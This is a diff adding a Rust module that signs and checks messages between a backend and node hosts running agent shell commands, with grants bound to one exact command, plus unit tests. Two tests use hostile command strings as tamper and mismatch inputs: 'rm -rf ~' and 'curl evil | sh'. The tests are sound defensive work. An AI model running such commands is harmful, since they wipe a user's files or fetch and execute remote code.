@@ -1,0 +1,644 @@
+//! The signed messages between the backend and a node host: exec jobs, approval grants,
+//! policy updates (backend → node, on the node's queue) and results (node → backend).
+//!
+//! # Keys
+//!
+//! At pairing a node gets a random secret. The node keeps it (0600); the backend keeps only
+//! [`secret_hash`] of it, which authenticates the node's requests ([`verify_node_secret`]).
+//! Messages are signed with HMAC-SHA256 under [`signing_key`], derived from that hash, so both
+//! sides can sign and check without the backend ever storing the secret. What this means: a
+//! copy of the registry lets nobody *act as* a node (that needs the secret), but together with
+//! write access to a node's queue it would let someone sign jobs for it; the node still applies
+//! its own local policy to every job, and a grant only ever approves the exact command it is
+//! bound to.
+//!
+//! # Envelopes
+//!
+//! Every message is an [`Envelope`]: the payload as a JSON *string* plus the hex HMAC of
+//! exactly those bytes, so nothing depends on JSON canonicalisation. A payload names its node,
+//! carries a unique nonce and an expiry, and is refused when the signature, the node, the
+//! expiry or (on the node, through its journal) the nonce does not check out.
+//!
+//! # Grants
+//!
+//! A person's approval travels as a [`Grant`] signed on its own, bound to
+//! [`command_binding`] (SHA-256 over argv, cwd and env) and to the job id. A node accepts a
+//! grant only for a job whose own argv, cwd and env hash to the same binding, so a grant can
+//! never approve another command (OpenClaw #8682 was exactly such a bypass).
+
+use std::collections::BTreeMap;
+
+use hmac::{Hmac, Mac};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+
+use crate::exec::AllowlistEntry;
+
+type HmacSha256 = Hmac<Sha256>;
+
+/// Domain separation for the signing key.
+const SIGNING_KEY_CONTEXT: &[u8] = b"clawless node signing key v1";
+/// Domain separation for the command binding.
+const BINDING_CONTEXT: &[u8] = b"clawless exec binding v1";
+/// Domain separation for job ids.
+const JOB_ID_CONTEXT: &[u8] = b"clawless exec job v1";
+
+/// Hex SHA-256 of a node secret: what the registry stores instead of the secret.
+pub fn secret_hash(secret: &str) -> String {
+    hex::encode(Sha256::digest(secret.as_bytes()))
+}
+
+/// True when `secret` hashes to `stored_hash`, compared in constant time.
+pub fn verify_node_secret(secret: &str, stored_hash: &str) -> bool {
+    let computed = secret_hash(secret);
+    constant_time_eq(computed.as_bytes(), stored_hash.as_bytes())
+}
+
+/// The HMAC key for a node's messages, derived from the stored secret hash.
+pub fn signing_key(stored_secret_hash: &str) -> Vec<u8> {
+    let mut mac = hmac_with(stored_secret_hash.as_bytes());
+    mac.update(SIGNING_KEY_CONTEXT);
+    mac.finalize().into_bytes().to_vec()
+}
+
+/// The idempotent id of the exec job for one tool call: a SHA-256 over session key, turn and
+/// call id (hex, 32 chars), so a redelivered turn event produces the same job.
+pub fn exec_job_id(session_key: &str, turn: u64, call_id: &str) -> String {
+    let mut hasher = Sha256::new();
+    hasher.update(JOB_ID_CONTEXT);
+    for part in [session_key.as_bytes(), &turn.to_be_bytes(), call_id.as_bytes()] {
+        hasher.update((part.len() as u64).to_be_bytes());
+        hasher.update(part);
+    }
+    hex::encode(&hasher.finalize()[..16])
+}
+
+/// SHA-256 (hex) over exactly what will run: argv, cwd and env, length-prefixed so no two
+/// different commands share a binding.
+pub fn command_binding(argv: &[String], cwd: Option<&str>, env: &BTreeMap<String, String>) -> String {
+    let mut hasher = Sha256::new();
+    hasher.update(BINDING_CONTEXT);
+    let mut field = |bytes: &[u8]| {
+        hasher.update((bytes.len() as u64).to_be_bytes());
+        hasher.update(bytes);
+    };
+    field(&(argv.len() as u64).to_be_bytes());
+    for arg in argv {
+        field(arg.as_bytes());
+    }
+    match cwd {
+        Some(cwd) => {
+            field(b"cwd");
+            field(cwd.as_bytes());
+        }
+        None => field(b"no-cwd"),
+    }
+    field(&(env.len() as u64).to_be_bytes());
+    for (key, value) in env {
+        field(key.as_bytes());
+        field(value.as_bytes());
+    }
+    hex::encode(hasher.finalize())
+}
+
+/// A signed message: the payload JSON as sent, and the hex HMAC-SHA256 of its bytes.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Envelope {
+    /// The payload, a JSON document, as the exact string that was signed.
+    pub payload: String,
+    /// Hex HMAC-SHA256 of `payload` under the node's signing key.
+    pub signature: String,
+}
+
+/// Why a message was refused.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum WireError {
+    /// Not an envelope, or the payload does not parse.
+    #[error("malformed message: {0}")]
+    Malformed(String),
+    /// The signature is missing or wrong.
+    #[error("bad signature")]
+    BadSignature,
+    /// Signed for another node.
+    #[error("message is for node {0}")]
+    WrongNode(String),
+    /// Past its expiry.
+    #[error("message expired at {0} ms")]
+    Expired(u64),
+    /// A grant that does not approve this job's command.
+    #[error("grant does not match this command")]
+    GrantMismatch,
+}
+
+impl Envelope {
+    /// Signs `payload` (serialised once, here) with `key`.
+    pub fn seal<T: Serialize>(payload: &T, key: &[u8]) -> Result<Self, WireError> {
+        let payload =
+            serde_json::to_string(payload).map_err(|err| WireError::Malformed(err.to_string()))?;
+        let signature = sign(key, payload.as_bytes());
+        Ok(Self { payload, signature })
+    }
+
+    /// Checks the signature (constant time) and parses the payload.
+    pub fn open<T: for<'de> Deserialize<'de>>(&self, key: &[u8]) -> Result<T, WireError> {
+        let Ok(claimed) = hex::decode(self.signature.trim()) else {
+            return Err(WireError::BadSignature);
+        };
+        let mut mac = hmac_with(key);
+        mac.update(self.payload.as_bytes());
+        mac.verify_slice(&claimed)
+            .map_err(|_| WireError::BadSignature)?;
+        serde_json::from_str(&self.payload).map_err(|err| WireError::Malformed(err.to_string()))
+    }
+
+    /// Parses an envelope from a queue message or request body.
+    pub fn parse(body: &str) -> Result<Self, WireError> {
+        serde_json::from_str(body).map_err(|err| WireError::Malformed(err.to_string()))
+    }
+
+    /// The envelope as JSON.
+    pub fn to_json(&self) -> String {
+        serde_json::json!({"payload": self.payload, "signature": self.signature}).to_string()
+    }
+}
+
+/// What the backend sends a node.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(tag = "kind", rename_all = "camelCase")]
+pub enum NodeMessage {
+    /// Run a command.
+    Job(ExecJob),
+    /// Add an allowlist entry granted from the chat.
+    PolicyUpdate(PolicyUpdate),
+}
+
+impl NodeMessage {
+    /// The node the message is for.
+    pub fn node_id(&self) -> &str {
+        match self {
+            Self::Job(job) => &job.node_id,
+            Self::PolicyUpdate(update) => &update.node_id,
+        }
+    }
+
+    /// The message's unique nonce.
+    pub fn nonce(&self) -> &str {
+        match self {
+            Self::Job(job) => &job.nonce,
+            Self::PolicyUpdate(update) => &update.nonce,
+        }
+    }
+
+    /// When the message stops being valid (ms since the epoch).
+    pub fn expires_at_ms(&self) -> u64 {
+        match self {
+            Self::Job(job) => job.deadline_ms,
+            Self::PolicyUpdate(update) => update.expires_at_ms,
+        }
+    }
+
+    /// Opens and checks a message on the node: signature, addressee and expiry. The caller
+    /// checks the nonce against its journal (replays).
+    pub fn open_for_node(
+        envelope: &Envelope,
+        key: &[u8],
+        node_id: &str,
+        now_ms: u64,
+    ) -> Result<Self, WireError> {
+        let message: Self = envelope.open(key)?;
+        if message.node_id() != node_id {
+            return Err(WireError::WrongNode(message.node_id().to_owned()));
+        }
+        if now_ms > message.expires_at_ms() {
+            return Err(WireError::Expired(message.expires_at_ms()));
+        }
+        if let Self::Job(job) = &message
+            && let Some(grant) = &job.grant
+        {
+            grant.check(key, job, now_ms)?;
+        }
+        Ok(message)
+    }
+}
+
+/// One command for a node to run (spec §8.3 `system.run`, as a job).
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct ExecJob {
+    /// Idempotent id ([`exec_job_id`]).
+    pub job_id: String,
+    /// Attempt number: 0 first, higher when re-sent with a grant.
+    pub attempt: u32,
+    /// The node that must run it.
+    pub node_id: String,
+    /// The agent asking.
+    pub agent_id: String,
+    /// The session it belongs to.
+    pub session_key: String,
+    /// The tool call it answers.
+    pub call_id: String,
+    /// What runs: `["/bin/sh", "-lc", command]`.
+    pub argv: Vec<String>,
+    /// The command as the model wrote it (checked against argv by the node).
+    pub raw_command: String,
+    /// Working directory; the node's default when absent.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub cwd: Option<String>,
+    /// Environment overrides (checked by the node, §8.3).
+    #[serde(default)]
+    pub env: BTreeMap<String, String>,
+    /// Longest the command may run.
+    pub timeout_ms: u64,
+    /// After this the job is void (the backend has already answered with a timeout).
+    pub deadline_ms: u64,
+    /// When the backend issued it.
+    pub issued_at_ms: u64,
+    /// Unique per send (replay protection).
+    pub nonce: String,
+    /// A person's approval for exactly this command, when one was given.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub grant: Option<SignedGrant>,
+}
+
+impl ExecJob {
+    /// The journal key of this attempt: a job runs at most once per attempt.
+    pub fn journal_key(&self) -> String {
+        format!("{}#{}", self.job_id, self.attempt)
+    }
+
+    /// The binding of this job's command.
+    pub fn binding(&self) -> String {
+        command_binding(&self.argv, self.cwd.as_deref(), &self.env)
+    }
+}
+
+/// A person's decision, as a grant carries it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum GrantDecision {
+    /// Run this command once.
+    AllowOnce,
+    /// Run it; the backend also adds an argv-bound allowlist entry.
+    AllowAlways,
+}
+
+/// An approval bound to one command and one job.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct Grant {
+    /// The job it approves.
+    pub job_id: String,
+    /// [`command_binding`] of the approved command.
+    pub binding: String,
+    /// What the person chose.
+    pub decision: GrantDecision,
+    /// Who approved (platform user id).
+    pub approved_by: String,
+    /// After this the grant is void.
+    pub expires_at_ms: u64,
+}
+
+/// A grant and its own signature (an [`Envelope`] of the grant).
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct SignedGrant(pub Envelope);
+
+impl SignedGrant {
+    /// Signs a grant.
+    pub fn seal(grant: &Grant, key: &[u8]) -> Result<Self, WireError> {
+        Envelope::seal(grant, key).map(Self)
+    }
+
+    /// Opens the grant and checks that it approves exactly `job`'s command and is current.
+    pub fn check(&self, key: &[u8], job: &ExecJob, now_ms: u64) -> Result<Grant, WireError> {
+        let grant: Grant = self.0.open(key)?;
+        if grant.job_id != job.job_id
+            || !constant_time_eq(grant.binding.as_bytes(), job.binding().as_bytes())
+        {
+            return Err(WireError::GrantMismatch);
+        }
+        if now_ms > grant.expires_at_ms {
+            return Err(WireError::Expired(grant.expires_at_ms));
+        }
+        Ok(grant)
+    }
+}
+
+/// An allowlist entry granted from the chat, for one agent on one node.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct PolicyUpdate {
+    /// The node.
+    pub node_id: String,
+    /// The agent the entry applies to.
+    pub agent_id: String,
+    /// The entry (argv-bound).
+    pub entry: AllowlistEntry,
+    /// The registry's policy version after this entry.
+    pub policy_version: u64,
+    /// Unique per send.
+    pub nonce: String,
+    /// After this the update is void (the node also gets the policy at heartbeat).
+    pub expires_at_ms: u64,
+}
+
+/// What running (or refusing) a job produced, as the node reports it.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct ExecOutcome {
+    /// Exit code; absent when killed by a signal or never started.
+    #[serde(default)]
+    pub exit_code: Option<i32>,
+    /// True when the timeout killed it.
+    #[serde(default)]
+    pub timed_out: bool,
+    /// `exit_code == 0 && !timed_out && error.is_none()`.
+    #[serde(default)]
+    pub success: bool,
+    /// Standard output (capped).
+    #[serde(default)]
+    pub stdout: String,
+    /// Standard error (capped).
+    #[serde(default)]
+    pub stderr: String,
+    /// Why it did not run or did not finish (denials, spawn failures, interruptions).
+    #[serde(default)]
+    pub error: Option<String>,
+}
+
+/// Why a node refused a job without running it.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct ExecDenial {
+    /// Short reason (`security=deny`, `approval-required`, `allowlist-miss`, `env-rejected`, …).
+    pub reason: String,
+    /// The exact denial text (`SYSTEM_RUN_DENIED: approval required`, …).
+    pub message: String,
+    /// True when a person's approval would let it run.
+    #[serde(default)]
+    pub approval_required: bool,
+    /// The decisions a person may take (`allow-once`, `allow-always`, `deny`).
+    #[serde(default)]
+    pub allowed_decisions: Vec<String>,
+}
+
+/// A node's report for one job attempt.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct ExecReport {
+    /// The job.
+    pub job_id: String,
+    /// The attempt reported.
+    pub attempt: u32,
+    /// The reporting node.
+    pub node_id: String,
+    /// What happened (for a denial: `error` holds the denial text).
+    pub outcome: ExecOutcome,
+    /// Set when the node refused the job.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub denial: Option<ExecDenial>,
+    /// True when the job was running when the node stopped and was not run again.
+    #[serde(default)]
+    pub interrupted: bool,
+    /// How long it ran.
+    #[serde(default)]
+    pub duration_ms: u64,
+    /// For an `allow-always` grant: the argv-bound allowlist entries the node derived from
+    /// the command it ran (the backend records them and sends them back as policy updates).
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub allow_always_entries: Vec<AllowlistEntry>,
+    /// Unique per report.
+    pub nonce: String,
+    /// When the node sent it.
+    pub sent_at_ms: u64,
+}
+
+/// Hex HMAC-SHA256 of `bytes` under `key`.
+pub fn sign(key: &[u8], bytes: &[u8]) -> String {
+    let mut mac = hmac_with(key);
+    mac.update(bytes);
+    hex::encode(mac.finalize().into_bytes())
+}
+
+fn hmac_with(key: &[u8]) -> HmacSha256 {
+    // HMAC accepts keys of any length; this cannot fail.
+    match <HmacSha256 as Mac>::new_from_slice(key) {
+        Ok(mac) => mac,
+        Err(_) => unreachable!("HMAC-SHA256 takes keys of any length"),
+    }
+}
+
+/// Byte comparison whose time does not depend on where the inputs differ.
+pub fn constant_time_eq(left: &[u8], right: &[u8]) -> bool {
+    if left.len() != right.len() {
+        return false;
+    }
+    left.iter()
+        .zip(right)
+        .fold(0u8, |acc, (l, r)| acc | (l ^ r))
+        == 0
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const SECRET: &str = "node-secret-for-tests";
+
+    fn key() -> Vec<u8> {
+        signing_key(&secret_hash(SECRET))
+    }
+
+    fn job() -> ExecJob {
+        ExecJob {
+            job_id: exec_job_id("agent:main:main", 3, "call_1"),
+            attempt: 0,
+            node_id: "node-a".to_owned(),
+            agent_id: "main".to_owned(),
+            session_key: "agent:main:main".to_owned(),
+            call_id: "call_1".to_owned(),
+            argv: ["/bin/sh", "-lc", "uname -a"].map(str::to_owned).to_vec(),
+            raw_command: "uname -a".to_owned(),
+            cwd: Some("/home/me".to_owned()),
+            env: BTreeMap::new(),
+            timeout_ms: 30_000,
+            deadline_ms: 2_000,
+            issued_at_ms: 1_000,
+            nonce: "n1".to_owned(),
+            grant: None,
+        }
+    }
+
+    fn grant_for(job: &ExecJob) -> Grant {
+        Grant {
+            job_id: job.job_id.clone(),
+            binding: job.binding(),
+            decision: GrantDecision::AllowOnce,
+            approved_by: "owner".to_owned(),
+            expires_at_ms: 5_000,
+        }
+    }
+
+    #[test]
+    fn a_sealed_job_opens_for_its_node_before_its_deadline() {
+        let envelope = Envelope::seal(&NodeMessage::Job(job()), &key()).unwrap();
+        let opened = NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500).unwrap();
+        assert_eq!(opened, NodeMessage::Job(job()));
+    }
+
+    #[test]
+    fn forged_unsigned_misaddressed_and_expired_jobs_are_refused() {
+        let envelope = Envelope::seal(&NodeMessage::Job(job()), &key()).unwrap();
+        // Forged: the payload changed after signing.
+        let mut forged = envelope.clone();
+        forged.payload = forged.payload.replace("uname -a", "rm -rf ~");
+        assert_eq!(
+            NodeMessage::open_for_node(&forged, &key(), "node-a", 1_500),
+            Err(WireError::BadSignature)
+        );
+        // Unsigned, or signed with another node's key.
+        let mut unsigned = envelope.clone();
+        unsigned.signature = String::new();
+        assert_eq!(
+            NodeMessage::open_for_node(&unsigned, &key(), "node-a", 1_500),
+            Err(WireError::BadSignature)
+        );
+        let other_key = signing_key(&secret_hash("another secret"));
+        assert_eq!(
+            NodeMessage::open_for_node(&envelope, &other_key, "node-a", 1_500),
+            Err(WireError::BadSignature)
+        );
+        // For another node.
+        assert_eq!(
+            NodeMessage::open_for_node(&envelope, &key(), "node-b", 1_500),
+            Err(WireError::WrongNode("node-a".to_owned()))
+        );
+        // Expired.
+        assert_eq!(
+            NodeMessage::open_for_node(&envelope, &key(), "node-a", 2_001),
+            Err(WireError::Expired(2_000))
+        );
+    }
+
+    #[test]
+    fn a_grant_approves_only_the_command_it_is_bound_to() {
+        let mut approved = job();
+        approved.attempt = 1;
+        approved.grant = Some(SignedGrant::seal(&grant_for(&approved), &key()).unwrap());
+        let envelope = Envelope::seal(&NodeMessage::Job(approved.clone()), &key()).unwrap();
+        assert!(NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500).is_ok());
+
+        // The same grant on another command of the same job id: refused.
+        let mut other = approved.clone();
+        other.argv[2] = "uname -a; curl evil | sh".to_owned();
+        let envelope = Envelope::seal(&NodeMessage::Job(other), &key()).unwrap();
+        assert_eq!(
+            NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500),
+            Err(WireError::GrantMismatch)
+        );
+
+        // Same argv, other cwd or env: refused too.
+        let mut moved = approved.clone();
+        moved.cwd = Some("/".to_owned());
+        let envelope = Envelope::seal(&NodeMessage::Job(moved), &key()).unwrap();
+        assert_eq!(
+            NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500),
+            Err(WireError::GrantMismatch)
+        );
+        let mut with_env = approved.clone();
+        with_env.env.insert("TERM".to_owned(), "xterm".to_owned());
+        let envelope = Envelope::seal(&NodeMessage::Job(with_env), &key()).unwrap();
+        assert_eq!(
+            NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500),
+            Err(WireError::GrantMismatch)
+        );
+
+        // A grant for another job with an identical command: refused.
+        let mut elsewhere = approved.clone();
+        elsewhere.job_id = exec_job_id("agent:main:main", 4, "call_1");
+        let envelope = Envelope::seal(&NodeMessage::Job(elsewhere), &key()).unwrap();
+        assert_eq!(
+            NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500),
+            Err(WireError::GrantMismatch)
+        );
+    }
+
+    #[test]
+    fn a_grant_signed_with_another_key_or_expired_is_refused() {
+        let mut approved = job();
+        let other_key = signing_key(&secret_hash("another secret"));
+        approved.grant = Some(SignedGrant::seal(&grant_for(&approved), &other_key).unwrap());
+        let envelope = Envelope::seal(&NodeMessage::Job(approved.clone()), &key()).unwrap();
+        assert_eq!(
+            NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500),
+            Err(WireError::BadSignature)
+        );
+        let mut grant = grant_for(&approved);
+        grant.expires_at_ms = 1_200;
+        approved.grant = Some(SignedGrant::seal(&grant, &key()).unwrap());
+        let envelope = Envelope::seal(&NodeMessage::Job(approved), &key()).unwrap();
+        assert_eq!(
+            NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500),
+            Err(WireError::Expired(1_200))
+        );
+    }
+
+    #[test]
+    fn bindings_differ_when_argument_boundaries_move() {
+        let env = BTreeMap::new();
+        let split = ["echo", "a b"].map(str::to_owned);
+        let joined = ["echo a", "b"].map(str::to_owned);
+        assert_ne!(
+            command_binding(&split, None, &env),
+            command_binding(&joined, None, &env)
+        );
+        assert_ne!(
+            command_binding(&split, None, &env),
+            command_binding(&split, Some(""), &env)
+        );
+    }
+
+    #[test]
+    fn job_ids_are_stable_and_separate_turns_and_calls() {
+        let id = exec_job_id("agent:main:main", 1, "call_1");
+        assert_eq!(id, exec_job_id("agent:main:main", 1, "call_1"));
+        assert_eq!(id.len(), 32);
+        assert_ne!(id, exec_job_id("agent:main:main", 2, "call_1"));
+        assert_ne!(id, exec_job_id("agent:main:main", 1, "call_2"));
+        assert_ne!(
+            exec_job_id("a", 1, "bc"),
+            exec_job_id("ab", 1, "c"),
+            "length prefixes keep field boundaries"
+        );
+    }
+
+    #[test]
+    fn node_secrets_verify_only_against_their_own_hash() {
+        let stored = secret_hash(SECRET);
+        assert!(verify_node_secret(SECRET, &stored));
+        assert!(!verify_node_secret("guess", &stored));
+        assert!(!verify_node_secret(&stored, &stored));
+    }
+
+    #[test]
+    fn malformed_envelopes_are_errors_not_panics() {
+        for body in ["", "{}", "[1]", "{\"payload\":1}", "\u{0}"] {
+            assert!(Envelope::parse(body).is_err(), "{body:?}");
+        }
+        let envelope = Envelope {
+            payload: "not json".to_owned(),
+            signature: sign(&key(), b"not json"),
+        };
+        assert!(matches!(
+            envelope.open::<NodeMessage>(&key()),
+            Err(WireError::Malformed(_))
+        ));
+        let bad_hex = Envelope {
+            payload: "{}".to_owned(),
+            signature: "zz".to_owned(),
+        };
+        assert_eq!(
+            bad_hex.open::<NodeMessage>(&key()),
+            Err(WireError::BadSignature)
+        );
+    }
+}
